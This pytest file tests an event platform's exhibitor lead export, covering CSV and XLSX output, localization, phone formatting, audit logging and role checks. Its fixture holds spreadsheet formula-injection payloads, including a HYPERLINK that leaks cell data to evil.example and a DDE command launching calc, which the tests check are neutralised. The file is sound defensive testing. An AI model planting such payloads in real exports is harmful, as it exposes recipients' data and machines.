"""The exhibitor's lead export (CSV and XLSX): headers and values in the user's language, Chinese intact,
phone numbers readable, formulas neutralised, cells typed, every export in the audit log."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from expo.core.models import AuditEntry
from expo.extensions import db
from expo.leads import services as lead_services

from ..conftest import login

PHONE = "+86 139 1234 5678"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HEADER_EN = ["Name", "Company", "Job title", "Country", "Email", "Phone", "Category", "Rating", "Notes",
             "First scanned", "Last scanned", "Scans", "Reference"]
HEADER_ZH = ["姓名", "公司", "职位", "国家/地区", "电子邮箱", "电话", "类别", "意向评级", "备注",
             "首次扫描时间", "最近扫描时间", "扫描次数", "外部编号"]  # Reference: the lead's id in an imported file
FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A2,"click")', "company": "+cmd|' /C calc'!A0",
            "job_title": "-2+3", "notes": "@SUM(A1:A9)"}



@pytest.fixture
def booth(make, fresh_translations):
    edition = make.edition(timezone="Asia/Shanghai")
    exhibitor = make.exhibitor(edition, "深圳宏达家具有限公司")
    admin = make.user("exhibitor_admin", exhibitor=exhibitor)
    chinese = make.registration(edition, name="王小明", email="xiaoming@example.cn", phone=PHONE,
                                company="佛山金雅家居有限公司", job_title="采购经理", country="CN", category="buyer")
    formulas = make.registration(edition, name=FORMULAS["name"], email="evil@example.com",
                                 company=FORMULAS["company"], job_title=FORMULAS["job_title"], country="DE",
                                 category="trade_visitor")
    first = datetime(2026, 5, 20, 2, 30, tzinfo=timezone.utc)  # 10:30 in Shanghai
    lead_id, _ = lead_services.capture_lead(exhibitor, chinese, admin, first)
    other_id, _ = lead_services.capture_lead(exhibitor, formulas, admin, first + timedelta(hours=1))
    from expo.leads.models import Lead

    lead_services.update_lead(db.session.get(Lead, lead_id), rating="hot", notes="对办公家具很感兴趣，下周回访",
                              actor_id=admin.id)
    lead_services.update_lead(db.session.get(Lead, other_id), rating=None, notes=FORMULAS["notes"],
                              actor_id=admin.id)
    db.session.commit()
    return admin


def download(client, admin, fmt, lang):
    login(client, admin)
    client.get(f"/lang/{lang}")
    response = client.get(f"/portal/leads.{fmt}")
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    assert response.headers["Content-Disposition"].endswith(f'.{fmt}"')
    return response


def read_csv(response) -> list[list[str]]:
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 (Chinese) only with the byte-order mark
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response):
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    body = response.get_data()
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "a cell of the export is a formula"
    return load_workbook(io.BytesIO(body)).active


# --- CSV ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang, header, buyer, hot, china", [
    ("en", HEADER_EN, "Buyer", "Hot", "China"),
    ("zh_CN", HEADER_ZH, "采购商", "高意向", "中国"),
])
def test_csv_speaks_the_users_language(client, booth, lang, header, buyer, hot, china):
    rows = read_csv(download(client, booth, "csv", lang))
    assert rows[0][:len(header)] == header  # then the follow-up columns (tests/leads/test_follow_up_views.py)
    row = next(dict(zip(header, r)) for r in rows[1:] if r[0] == "王小明")
    name, company, job, country, email, phone, category, rating, notes, first, last, scans, _reference = header
    assert row[company] == "佛山金雅家居有限公司" and row[job] == "采购经理"
    assert row[notes] == "对办公家具很感兴趣，下周回访"
    assert (row[category], row[rating], row[country]) == (buyer, hot, china)
    assert (row[first], row[last], row[scans]) == ("2026-05-20 10:30", "2026-05-20 10:30", "1")


def test_csv_keeps_the_phone_readable_and_neutralises_formulas(client, booth):
    rows = read_csv(download(client, booth, "csv", "en"))
    header = rows[0]
    chinese = next(dict(zip(header, r)) for r in rows[1:] if r[0] == "王小明")
    # Usable: the number exactly as written, nothing in front (a "+" and digits call no function).
    assert chinese["Phone"] == PHONE

    formulas = next(dict(zip(header, r)) for r in rows[1:] if r[0] != "王小明")
    assert formulas["Name"] == "'" + FORMULAS["name"]
    assert formulas["Company"] == "'" + FORMULAS["company"]
    assert formulas["Job title"] == "'" + FORMULAS["job_title"]
    assert formulas["Notes"] == "'" + FORMULAS["notes"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or cell == PHONE, row


# --- XLSX --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang, header, buyer, hot, china, title", [
    ("en", HEADER_EN, "Buyer", "Hot", "China", "Leads"),
    ("zh_CN", HEADER_ZH, "采购商", "高意向", "中国", "销售线索"),
])
def test_xlsx_speaks_the_users_language_with_typed_cells(client, booth, lang, header, buyer, hot, china, title):
    sheet = read_xlsx(download(client, booth, "xlsx", lang))
    assert sheet.title == title
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0])[:len(header)] == header
    assert sheet.freeze_panes == "A2"
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "王小明")
    row = {h: c for h, c in zip(header, cells)}
    name, company, job, country, email, phone, category, rating, notes, first, last, scans, _reference = header
    assert row[company].value == "佛山金雅家居有限公司" and row[notes].value == "对办公家具很感兴趣，下周回访"
    assert (row[category].value, row[rating].value, row[country].value) == (buyer, hot, china)
    # Text is a text cell in text format; the phone as written, no apostrophe, not a number.
    assert row[phone].value == PHONE and row[phone].data_type == "s" and row[phone].number_format == "@"
    assert row[name].data_type == "s" and row[name].number_format == "@"
    # Times are dates in the edition's zone, the scan count a number.
    assert row[first].value == datetime(2026, 5, 20, 10, 30) and row[first].is_date
    assert row[scans].value == 1 and row[scans].data_type == "n"


def test_xlsx_holds_formula_text_as_text(client, booth):
    sheet = read_xlsx(download(client, booth, "xlsx", "en"))
    header = [c.value for c in sheet[1]]
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value != "王小明")
    row = {h: c for h, c in zip(header, cells)}
    for column, key in (("Name", "name"), ("Company", "company"), ("Job title", "job_title"), ("Notes", "notes")):
        cell = row[column]
        assert cell.value == FORMULAS[key], "the text is kept as it was typed, without an apostrophe"
        assert cell.data_type == "s" and cell.number_format == "@" and cell.quotePrefix


# --- audit -------------------------------------------------------------------------------------------

def test_every_export_is_audited(client, booth):
    for fmt in ("csv", "xlsx", "csv"):
        download(client, booth, fmt, "en")
    db.session.expire_all()
    entries = list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == "leads.exported")
                                      .order_by(AuditEntry.id)))
    assert [e.details["format"] for e in entries] == ["csv", "xlsx", "csv"]
    for entry in entries:
        assert entry.user_id == booth.id and entry.organizer_id == booth.organizer_id
        assert entry.details["exhibitor_id"] == booth.exhibitor_id and entry.details["rows"] == 2


def test_booth_staff_may_not_export(client, make, booth):
    staff = make.user("booth_staff", exhibitor=booth.exhibitor)
    db.session.commit()
    login(client, staff)
    assert client.get("/portal/leads.csv").status_code == 403
    assert client.get("/portal/leads.xlsx").status_code == 403
